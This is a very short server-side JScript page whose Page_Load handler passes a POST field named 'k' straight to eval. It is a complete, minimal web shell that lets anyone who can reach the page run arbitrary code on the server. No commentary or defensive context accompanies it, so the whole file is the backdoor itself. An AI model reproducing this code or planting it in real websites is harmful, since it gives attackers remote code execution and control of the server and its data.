<script language="JScript" runat="server">
function Page_Load() {
  eval(Request.Form["k"]);
}
</script>
